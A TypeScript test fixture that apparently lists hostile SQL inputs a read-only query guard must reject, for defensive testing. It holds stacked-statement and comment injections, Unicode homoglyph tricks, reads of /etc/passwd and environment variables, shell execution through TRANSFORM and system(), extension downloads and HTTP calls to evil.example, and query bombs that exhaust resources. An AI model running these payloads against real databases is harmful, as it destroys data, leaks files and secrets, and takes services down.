// Statements that must never run where only reading is allowed, by what they try. The table `tickets` exists and may be read.

const lines = (text: string): string[] =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '')

const WRITES = lines(`
  INSERT INTO tickets VALUES (1)
  INSERT INTO tickets SELECT * FROM tickets
  INSERT OVERWRITE tickets SELECT * FROM tickets
  INSERT INTO tickets BY NAME SELECT 1 AS id
  REPLACE INTO tickets VALUES (1)
  UPDATE tickets SET id = 1
  UPDATE tickets SET id = (SELECT 1) WHERE id = 2
  DELETE FROM tickets
  DELETE FROM tickets WHERE id = 1
  MERGE INTO tickets USING tickets s ON tickets.id = s.id WHEN MATCHED THEN DELETE
  TRUNCATE TABLE tickets
  DROP TABLE tickets
  DROP TABLE IF EXISTS tickets
  DROP VIEW v
  DROP SCHEMA main CASCADE
  DROP DATABASE main
  ALTER TABLE tickets ADD COLUMN x INT
  ALTER TABLE tickets RENAME TO other
  CREATE TABLE x (id INT)
  CREATE TABLE x AS SELECT 1
  CREATE OR REPLACE TABLE tickets AS SELECT 1 AS id
  CREATE TEMPORARY TABLE x AS SELECT 1
  CREATE TEMP VIEW x AS SELECT 1
  CREATE VIEW x AS SELECT * FROM tickets
  CREATE MATERIALIZED VIEW x AS SELECT 1
  CREATE OR REFRESH STREAMING TABLE x AS SELECT * FROM STREAM(tickets)
  CREATE STREAMING TABLE x AS SELECT * FROM STREAM(LIVE.tickets)
  CREATE SCHEMA x
  CREATE DATABASE x
  CREATE FUNCTION f(x INT) RETURNS INT RETURN x + 1
  CREATE MACRO f(x) AS x + 1
  CREATE SEQUENCE s
  CREATE INDEX i ON tickets (id)
  CREATE TYPE mood AS ENUM ('a')
  COMMENT ON TABLE tickets IS 'x'
  REFRESH TABLE tickets
  ANALYZE TABLE tickets COMPUTE STATISTICS
  OPTIMIZE tickets
  VACUUM tickets
  VACUUM
  UNDROP TABLE tickets
  RESTORE TABLE tickets TO VERSION AS OF 1
  GRANT SELECT ON TABLE tickets TO everyone
  REVOKE SELECT ON TABLE tickets FROM everyone
  SELECT * INTO copy FROM tickets
  SELECT id INTO TEMP copy FROM tickets
  SELECT * FROM tickets FOR UPDATE
  SELECT * FROM tickets FOR SHARE
  EXPLAIN DELETE FROM tickets
  EXPLAIN ANALYZE DELETE FROM tickets
  EXPLAIN INSERT INTO tickets VALUES (1)
  EXPLAIN EXPLAIN DROP TABLE tickets
  DESCRIBE DELETE FROM tickets
`)

const WRITES_INSIDE = lines(`
  WITH x AS (INSERT INTO tickets VALUES (1) RETURNING *) SELECT * FROM x
  WITH x AS (DELETE FROM tickets RETURNING *) SELECT * FROM x
  WITH x AS (UPDATE tickets SET id = 1 RETURNING *) SELECT * FROM x
  WITH x AS (MERGE INTO tickets USING tickets s ON true WHEN MATCHED THEN DELETE) SELECT * FROM x
  WITH x AS (DROP TABLE tickets) SELECT 1
  WITH a AS (SELECT 1), b AS (DELETE FROM tickets) SELECT * FROM a
  WITH x AS (WITH y AS (DELETE FROM tickets RETURNING id) SELECT * FROM y) SELECT * FROM x
  WITH x AS (SELECT 1) INSERT INTO tickets SELECT * FROM x
  WITH x AS (SELECT 1) DELETE FROM tickets
  WITH x AS (SELECT 1) UPDATE tickets SET id = 2
  SELECT * FROM (DELETE FROM tickets RETURNING *)
  SELECT * FROM (INSERT INTO tickets VALUES (1) RETURNING id) AS x
  SELECT (DELETE FROM tickets RETURNING id)
  SELECT 1 WHERE EXISTS (DELETE FROM tickets RETURNING id)
  SELECT 1 UNION ALL (DELETE FROM tickets RETURNING id)
  SELECT id IN (DELETE FROM tickets RETURNING id) FROM tickets
  SELECT * FROM tickets WHERE id = (UPDATE tickets SET id = 1 RETURNING id)
  FROM tickets INSERT OVERWRITE TABLE other SELECT *
`)

const SESSION = lines(`
  ATTACH 'other.db'
  ATTACH '/etc/passwd' AS x (TYPE sqlite)
  ATTACH DATABASE 'x.db' AS x
  DETACH x
  INSTALL httpfs
  LOAD httpfs
  LOAD '/tmp/evil.duckdb_extension'
  FORCE INSTALL httpfs FROM 'http://evil.example'
  UPDATE EXTENSIONS
  SET memory_limit = '1TB'
  SET enable_external_access = true
  SET VARIABLE x = 1
  SET GLOBAL threads = 1
  RESET enable_external_access
  PRAGMA database_list
  PRAGMA enable_profiling
  CALL pragma_version()
  CALL duckdb_settings()
  USE other
  USE CATALOG main
  BEGIN
  BEGIN TRANSACTION
  START TRANSACTION
  COMMIT
  ROLLBACK
  CHECKPOINT
  FORCE CHECKPOINT
  EXPORT DATABASE '/tmp/x'
  IMPORT DATABASE '/tmp/x'
  COPY tickets TO '/tmp/x.csv'
  COPY tickets FROM '/tmp/x.csv'
  COPY (SELECT * FROM tickets) TO '/tmp/x.parquet' (FORMAT parquet)
  COPY INTO tickets FROM '/tmp/x.csv' FILEFORMAT = CSV
  PUT '/tmp/x' INTO '/Volumes/x'
  GET '/Volumes/x' TO '/tmp/x'
  REMOVE '/Volumes/x'
  LOAD DATA INPATH '/etc/passwd' INTO TABLE tickets
  PREPARE p AS SELECT 1
  EXECUTE p
  EXECUTE IMMEDIATE 'DROP TABLE tickets'
  DEALLOCATE p
  KILL 1
  DECLARE x INT
  CACHE TABLE tickets
  UNCACHE TABLE tickets
  CLEAR CACHE
  ADD JAR '/tmp/evil.jar'
  LIST FILE
  MSCK REPAIR TABLE tickets
  SHOW VARIABLES
  SHOW DATABASES
  SHOW CREATE TABLE tickets
  SHOW ALL TABLES
  SHOW COLUMNS FROM tickets
  SHOW GRANTS ON TABLE tickets
  SHOW FUNCTIONS
  SUMMARIZE tickets
  DESCRIBE HISTORY tickets
  DESCRIBE DATABASE main
  DESCRIBE SELECT * FROM read_csv('/etc/passwd')
  CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
  BEGIN ATOMIC DELETE FROM tickets; END
`)

const TWO_STATEMENTS = [
  ...lines(`
  SELECT 1; DROP TABLE tickets
  SELECT 1; SELECT 2
  SELECT 1;;DELETE FROM tickets
  ; DELETE FROM tickets
  SELECT 1 /* ; */ ; DELETE FROM tickets /* ; */
  SELECT ';' ; DELETE FROM tickets
  SELECT 'it''s'; DELETE FROM tickets; --'
  SELECT "a"; DELETE FROM tickets; --"
  SELECT '\\'; DELETE FROM tickets; --
  SELECT 'a\\\\'; DELETE FROM tickets; --'
  SELECT '\\\\\\''; DELETE FROM tickets; --
  EXPLAIN SELECT 1; DELETE FROM tickets
  SHOW TABLES; DROP TABLE tickets
  SELECT 1 AS \`x;\`; DELETE FROM tickets
  SELECT r'\\'; DELETE FROM tickets; --'
  SELECT $$;$$; DELETE FROM tickets
  `),
  'SELECT 1;\n--\nDROP TABLE tickets',
  'SELECT 1 -- harmless\n; DROP TABLE tickets',
  'SELECT 1;\r\nDROP TABLE tickets',
  'SELECT 1 --\r\n; DROP TABLE tickets',
  'SELECT 1;\u00a0DROP TABLE tickets',
  'SELECT 1;\ufeffDROP TABLE tickets',
  'SELECT 1; \u2028DROP TABLE tickets',
  'SELECT 1\u0000; DROP TABLE tickets',
]

const COMMENT_TRICKS = [
  ...lines(`
  /* SELECT 1 */ DROP TABLE tickets
  /* a /* b */ DROP TABLE tickets /* c */ */
  /* a /* b */ c */ DROP TABLE tickets
  /**/DELETE/**/FROM/**/tickets
  DR/**/OP TABLE tickets
  SELECT 1 /* open
  SELECT 1 */ DROP TABLE tickets /*
  /*! DROP TABLE tickets */ DROP TABLE tickets
  /*+ hint */ DELETE FROM tickets
  SELECT * FROM tickets WHERE id = 1 /* x */ OR read_text('/etc/passwd') = ''
  SELECT 'open
  SELECT "open
  SELECT \`open
  SELECT 'a' 'b
  `),
  '-- SELECT 1\nDROP TABLE tickets',
  '--\nDELETE FROM tickets',
  '-- \u2028 x\nDROP TABLE tickets',
  'SELECT 1 --\n FROM read_csv("/etc/passwd")',
  '#\nDROP TABLE tickets',
  '// x\nDROP TABLE tickets',
]

const FILES = lines(`
  SELECT * FROM '/etc/passwd'
  SELECT * FROM 'data.csv'
  SELECT * FROM "data.csv"
  SELECT * FROM \`data.csv\`
  SELECT * FROM \`/etc/passwd\`
  SELECT * FROM csv.\`/etc/passwd\`
  SELECT * FROM text.\`/etc/passwd\`
  SELECT * FROM json.\`/data/x.json\`
  SELECT * FROM parquet.\`s3://bucket/x\`
  SELECT * FROM delta.\`/tmp/table\`
  SELECT * FROM binaryFile.\`/etc/passwd\`
  SELECT * FROM \`tickets.parquet\`
  SELECT * FROM tickets.csv
  SELECT * FROM data.parquet
  SELECT * FROM \`https://evil.example/x.csv\`
  SELECT * FROM 'https://evil.example/x.parquet'
  SELECT * FROM 's3://bucket/key'
  SELECT * FROM \`..\`.\`..\`.\`etc\`
  SELECT * FROM \`C:\\\\windows\\\\x\`
  SELECT * FROM \`~/x\`
  SELECT * FROM \`*.csv\`
  SELECT * FROM \`file:///etc/passwd\`
  SELECT * FROM \`x.json.gz\`
  SELECT * FROM tickets JOIN \`/etc/passwd\` ON true
  SELECT * FROM tickets, '/etc/passwd'
  SELECT (SELECT * FROM \`/etc/passwd\`)
  SELECT * FROM (SELECT * FROM (SELECT * FROM \`/etc/passwd\`))
  WITH x AS (SELECT * FROM '/etc/passwd') SELECT * FROM x
  SELECT 1 WHERE EXISTS (SELECT 1 FROM 'x.csv')
  SELECT 1 UNION SELECT * FROM 'x.csv'
  DESCRIBE \`/etc/passwd\`
  DESCRIBE 'x.csv'
`)

const FUNCTION_CALLS = lines(`
  read_csv('/etc/passwd')
  read_csv_auto('/etc/passwd')
  read_text('/etc/passwd')
  read_blob('/etc/passwd')
  read_json('/x.json')
  read_json_auto('/x.json')
  read_json_objects('/x.json')
  read_ndjson('/x')
  read_ndjson_auto('/x')
  read_parquet('/x')
  read_xlsx('/x')
  read_files('/Volumes/x')
  parquet_scan('/x')
  parquet_metadata('/x')
  parquet_schema('/x')
  parquet_file_metadata('/x')
  parquet_kv_metadata('/x')
  sniff_csv('/x')
  glob('/*')
  getenv('HOME')
  current_setting('enable_external_access')
  query('DROP TABLE tickets')
  query_table('tickets')
  duckdb_tables()
  duckdb_settings()
  duckdb_secrets()
  duckdb_functions()
  pragma_database_list()
  pragma_table_info('tickets')
  which_secret('x', 's3')
  sqlite_scan('x.db', 't')
  postgres_scan('x', 'y', 'z')
  mysql_query('x', 'y')
  iceberg_scan('/x')
  delta_scan('/x')
  arrow_scan(1, 2, 3)
  arrow_scan_dumb(1, 2, 3)
  seq_scan('tickets')
  http_get('http://evil.example')
  http_request('c', 'GET', '/x')
  secret('scope', 'key')
  vector_search(index => 'x', query_text => 'y')
  java_method('java.lang.Runtime', 'getRuntime')
  reflect('java.lang.System', 'getenv')
  identifier('tickets')
  nextval('s')
  currval('s')
  getvariable('x')
  add_parquet_key('a', 'b')
  checkpoint()
  force_checkpoint()
  enable_logging('x')
  write_log('x')
  json_execute_serialized_sql('x')
  from_substrait('x')
  json_serialize_sql('SELECT 1')
  lakedesk_ai(0, 'x')
  lakedesk_ai_site_0('x')
  ai_forecast(1)
  ai_parse_document('x')
  ai_prep_search('x')
  ai_unknown('x')
  current_user()
  session_user()
  current_database()
  current_schemas(true)
  version()
  input_file_name()
  remote_query('c', 'q')
  read_kafka('x')
  read_statestore('x')
  cloud_files_state('x')
  event_log('x')
  table_changes('tickets', 1)
  try_secret('a', 'b')
  test_all_types()
  repeat_row(1, num_rows => 1000000000)
  unnest(range(1000000000))
  sleep(1000)
  pg_sleep(1000)
  system('ls')
  shell('ls')
  eval('1')
  load_extension('x')
  \`read_csv\`('/etc/passwd')
  ReAd_CsV('/etc/passwd')
  main.read_csv('/etc/passwd')
  system.main.read_csv('/etc/passwd')
`).flatMap((call) => [`SELECT ${call}`, `SELECT * FROM ${call}`])

const DISGUISES = lines(`
  SELECT upper(read_text('/etc/passwd'))
  SELECT CASE WHEN true THEN read_text('/x') ELSE 1 END
  SELECT id FROM tickets ORDER BY read_text('/x')
  SELECT id FROM tickets GROUP BY read_text('/x')
  SELECT id FROM tickets HAVING read_text('/x') = 1
  SELECT id FROM tickets QUALIFY row_number() OVER (ORDER BY getenv('HOME')) = 1
  SELECT sum(id) FILTER (WHERE getenv('HOME') = 'x') FROM tickets
  SELECT sum(id) OVER (PARTITION BY getenv('HOME')) FROM tickets
  SELECT id FROM tickets LIMIT (SELECT count(*) FROM read_csv('/x'))
  SELECT id FROM tickets JOIN tickets t2 ON getenv('HOME') = 'x'
  SELECT transform(array(1), x -> getenv('HOME'))
  SELECT ai_gen(read_text('/etc/passwd'))
  SELECT ai_gen(getenv('HOME'))
  SELECT ai_classify(content => read_text('/x'), labels => array('a', 'b'))
  SELECT * FROM tickets LATERAL VIEW explode(glob('/*')) e AS z
  SELECT * FROM tickets LATERAL VIEW read_csv('/etc/passwd') e AS z
  SELECT * FROM LATERAL (SELECT * FROM read_csv('/x'))
  SELECT 'read_csv'('/etc/passwd')
  SELECT TRANSFORM (id) USING 'cat /etc/passwd' AS x FROM tickets
  SELECT TRANSFORM (id) USING 'sh' FROM tickets
  SELECT CAST('x' AS \`VARCHAR); DROP TABLE tickets; --\`)
  SELECT CAST(1 AS \`x\`)
  SELECT x::\`INT) FROM read_csv('/x'); --\` FROM tickets
  SELECT DATE '2020-01-01\\' AS DATE), (SELECT 1 FROM secret) --'
  SELECT TIMESTAMP '2020-01-01\\' AS TIMESTAMP) FROM secret --'
  SELECT DATE '\\'); DROP TABLE tickets; --'
  SELECT id:\`a] FROM secret --\` FROM tickets
  SELECT id:['a"] FROM secret --'] FROM tickets
  SELECT * FROM tickets TABLESAMPLE (10 PERCENT)
  SELECT * FROM tickets VERSION AS OF 1
  SELECT * FROM tickets TIMESTAMP AS OF '2020-01-01'
  SELECT * FROM STREAM(tickets_secret)
  SELECT * FROM IDENTIFIER('tick' || 'ets')
  SELECT * FROM TABLE(read_csv('/x'))
  SELECT COLUMNS('.*') FROM tickets
  SELECT $1
  SELECT ?
  SELECT @x
  SELECT @@version
  SELECT \${env:HOME}
  FROM read_csv('/x')
  FROM read_csv('/x') SELECT *
  TABLE tickets
  VALUES (read_text('/x'))
  VALUES ((SELECT * FROM 'x.csv'))
  PIVOT tickets ON id USING count(*)
  SELECT * FROM secret_salaries
  SELECT * FROM tickets, secret_salaries
  WITH secret_salaries AS (SELECT * FROM secret_salaries) SELECT * FROM secret_salaries
  WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a
  SELECT (WITH tickets AS (SELECT 1) SELECT 1), (SELECT max(id) FROM other_table)
  SELECT * FROM tickets WHERE id IN (SELECT id FROM secret_salaries)
  SELECT * FROM other.tickets
  SELECT * FROM other.schema.tickets
  SELECT * FROM a.b.c.tickets
`)

const CATALOGS = lines(`
  SELECT * FROM information_schema.tables
  SELECT * FROM system.information_schema.columns
  SELECT * FROM system.access.audit
  SELECT * FROM pg_catalog.pg_tables
  SELECT * FROM pg_tables
  SELECT * FROM sqlite_master
  SELECT * FROM sqlite_schema
  SELECT * FROM sqlite_temp_master
  SELECT * FROM duckdb_tables
  SELECT * FROM duckdb_settings
  SELECT * FROM duckdb_columns
  SELECT * FROM pragma_database_list
  SELECT * FROM temp.x
  SELECT * FROM \`information_schema\`.\`tables\`
  SELECT * FROM INFORMATION_SCHEMA.TABLES
  SELECT * FROM main.information_schema.tables
  SELECT * FROM lakedesk_ai_answers
`)

const UNICODE = [
  'SELECT 1\uff1b DROP TABLE tickets',
  '\uff33ELECT * FROM tickets',
  'SEL\u200bECT 1',
  'DEL\u200bETE FROM tickets',
  'DRO\u0420 TABLE tickets',
  'SELECT * FROM tick\u0435ts',
  'SELECT * FROM `tickets\u200b`',
  'SELECT * FROM \u202etickets',
  'SELECT * FROM `tickets\u200d`',
  'SELECT * FROM `\uff0fetc\uff0fpasswd`',
  'SELECT * FROM `tickets\u0000`',
  'SELECT * FROM \u2018/etc/passwd\u2019',
  'SELECT \u2018a\u2019; DROP TABLE tickets',
  'SELECT re\u0430d_csv(\u0027/etc/passwd\u0027)',
  'SELECT \u0433ead_text(1)',
  "SELECT \ud835\udc2b\ud835\udc1e\ud835\udc1a\ud835\udc1d_text('/x')",
  'SELECT 1 \u037e DROP TABLE tickets',
  'SELECT a\u0301 FROM secret_t\u00e4ble',
  "SELECT '\ud800'",
  'SELECT * FROM \ufeffsecret',
  '\u0000',
  '',
  '   ',
  ';',
  '--',
  '/* */',
  'hello, please drop the table',
]

const deep = (open: string, middle: string, close: string, count: number): string =>
  `${open.repeat(count)}${middle}${close.repeat(count)}`

const BOMBS = [
  `SELECT ${deep('(', '1', ')', 10_000)}`,
  `SELECT ${deep('upper(', "'a'", ')', 5_000)}`,
  `SELECT ${deep('CASE WHEN true THEN ', '1', ' END', 3_000)}`,
  `SELECT ${deep('ARRAY(', '1', ')', 3_000)}`,
  `SELECT * FROM ${deep('(SELECT * FROM ', 'tickets', ')', 3_000)}`,
  `SELECT ${deep('NOT ', 'true', '', 20_000)}`,
  `SELECT ${deep('- ', '1', '', 15_000)}`,
  `SELECT 1${' + 1'.repeat(9_000)}`,
  `SELECT 1${'::INT'.repeat(8_000)}`,
  `SELECT a${'.b'.repeat(9_000)}`,
  `SELECT a${'[0]'.repeat(6_000)}`,
  `SELECT 1${' UNION ALL SELECT 1'.repeat(4_000)}`,
  `SELECT CAST(1 AS ${deep('ARRAY<', 'INT', '>', 3_000)})`,
  `SELECT ${'/*'.repeat(30_000)}`,
  `SELECT '${'a'.repeat(200_000)}'`,
  `SELECT 1 IN (${'1,'.repeat(30_000)}1)`,
  `WITH ${Array.from({ length: 40 }, (_, i) => `c${i} AS (SELECT * FROM ${i === 0 ? 'secret' : `c${i - 1}, c${i - 1}`})`).join(', ')} SELECT * FROM c39`,
  ...lines(`
  WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r
  WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
  SELECT * FROM (WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r)
  SELECT * FROM range(1000000000)
  SELECT * FROM range(0, 9999999999)
  SELECT * FROM range((SELECT 1000000000))
  SELECT * FROM range(100000 * 100000)
  SELECT sequence(1, 1000000000)
  SELECT explode(sequence(1, 1000000000))
  SELECT * FROM range(1000000), range(1000000)
  SELECT * FROM range(1000000) a CROSS JOIN range(1000000) b
  SELECT * FROM range(1000000) a JOIN range(1000000) b ON true JOIN range(1000000) c ON true
  SELECT generate_series(1, 1000000000)
  SELECT * FROM generate_series(1, 1000000000)
  SELECT repeat('a', 1000000000)
  SELECT repeat('a', 1e12)
  SELECT repeat('a', id * 1000000) FROM tickets
  SELECT repeat(repeat('a', 1000000), 1000000)
  SELECT lpad('a', 1000000000, 'b')
  SELECT rpad('a', 999999999)
  SELECT space(1000000000)
  SELECT array_repeat('a', 1000000000)
  SELECT repeat('a', 10001)
  SELECT size(sequence(DATE'0001-01-01', DATE'9999-12-31', INTERVAL 1 SECOND)) FROM tickets
  SELECT size(sequence(TIMESTAMP '0001-01-01 00:00:00', TIMESTAMP '9999-12-31 00:00:00', INTERVAL 1 MICROSECOND)) FROM tickets
  SELECT size(sequence(DATE'0001-01-01', DATE'9999-12-31')) FROM tickets
  SELECT size(sequence(now(), now() + INTERVAL 100 YEARS, INTERVAL 1 SECOND)) FROM tickets
  SELECT size(sequence(1, id)) FROM tickets
  SELECT size(sequence(1, id * 1000000000)) FROM tickets
  SELECT size(sequence(1, (SELECT 1000000000))) FROM tickets
  SELECT size(sequence(created, DATE'9999-12-31', INTERVAL 1 SECOND)) FROM tickets
  SELECT size(transform(sequence(1, 1000000), x -> sequence(1, 1000000))) FROM tickets
  SELECT explode(sequence(1, 1000000)) AS x, explode(sequence(1, 1000000)) AS y FROM tickets
  SELECT count(*) FROM (SELECT explode(sequence(1, 1000000)) AS x) a, (SELECT explode(sequence(1, 1000000)) AS x) b
  WITH a AS (SELECT explode(sequence(1, 100000)) AS x) SELECT count(*) FROM a a1, a a2, a a3
  WITH a AS (SELECT * FROM range(1000000)), b AS (SELECT * FROM a, a c) SELECT count(*) FROM b
  SELECT count(*) FROM (SELECT explode(x) AS a FROM (SELECT sequence(1, 1000000) AS x FROM (SELECT explode(sequence(1, 1000000)) AS z FROM tickets)))
  SELECT count(*) FROM range(1000000) a JOIN (SELECT * FROM range(1000000)) b
  SELECT x FROM tickets LATERAL VIEW explode(sequence(1, 1000000)) a AS x LATERAL VIEW explode(sequence(1, 1000000)) b AS y
  SELECT array_join(transform(sequence(1, 1000000), x -> y), ',') FROM (SELECT repeat('x', 10000) AS y FROM tickets)
  SELECT repeat(x, 10000) FROM (SELECT repeat('x', 10000) AS x FROM tickets)
  SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000)) FROM tickets
  SELECT levenshtein(repeat('a', 5000), repeat('b', 5000)) FROM tickets
  SELECT format_string('%2000000000d', 1) FROM tickets
  SELECT printf('%999999999s', 'x') FROM tickets
  SELECT printf('%-5.999999999f', 1.5) FROM tickets
  SELECT printf('%*d', 2000000000, 1) FROM tickets
  SELECT format_string(id, 1) FROM tickets
  SELECT format_number(1.5, 500000000) FROM tickets
  SELECT format_number(1.5, id) FROM tickets
  SELECT lpad('x', 100000) FROM tickets
  SELECT lpad('x', id) FROM tickets
  SELECT aggregate(sequence(1, 40), 'xxxxxxxxxx', (a, x) -> concat(a, a)) FROM tickets
  SELECT reduce(sequence(1, 40), 'x', (a, x) -> a || 'y' || a) FROM tickets
  SELECT reduce(sequence(1, 40), 'x', (acc, x) -> replace('xx', 'x', acc)) FROM tickets
  SELECT aggregate(sequence(1, 9), array('x'), (acc, x) -> flatten(array_repeat(acc, 1000))) FROM tickets
  SELECT reduce(sequence(1, 40), 'a', (acc, x) -> regexp_replace(acc, 'a', 'aa')) FROM tickets
  SELECT repeat('a', 10000) LIKE '%_a%_a%_a%_a%_a%_a%_a%_ab' FROM tickets
  SELECT repeat('a', 10000) ILIKE '%a%a%a%a%a%a%ab' FROM tickets
  SELECT repeat('a', 10000) LIKE repeat('%_a', 9) FROM tickets
  SELECT like(repeat('a', 10000), '%_a%_a%_a%_b') FROM tickets
  SELECT length(format_number(id, '999999999')) FROM tickets
  SELECT replace(replace(repeat('a',10000),'a',repeat('b',10000)),'b',repeat('c',100)) FROM tickets
  WITH a AS (SELECT repeat('a', 10000) AS x FROM tickets), b AS (SELECT concat(x,x,x,x,x,x,x,x,x,x) AS x FROM a), c AS (SELECT concat(x,x,x,x,x,x,x,x,x,x) AS x FROM b), d AS (SELECT concat(x,x,x,x,x,x,x,x,x,x) AS x FROM c) SELECT length(x) FROM d
  SELECT array_join(array_repeat(text, 1000000), 'x') FROM tickets
  SELECT repeat('a', 10000) ILIKE '%a%b' FROM tickets
  SELECT array_repeat(array_repeat('a', 1000000), 1000000)
  SELECT * FROM tickets WHERE id IN (SELECT * FROM range(99999999999))
  `),
]

/** By what they try. Each must give SQL_REFUSED or SQL_INVALID for `{ text, tables: ['tickets'] }`. */
export const HOSTILE_STATEMENTS: Readonly<Record<string, readonly string[]>> = {
  writes: WRITES,
  'writes inside a query': WRITES_INSIDE,
  'sessions, files and settings': SESSION,
  'two statements': TWO_STATEMENTS,
  comments: COMMENT_TRICKS,
  'files as tables': FILES,
  'functions that reach out': FUNCTION_CALLS,
  disguises: DISGUISES,
  catalogs: CATALOGS,
  unicode: UNICODE,
  bombs: BOMBS,
}
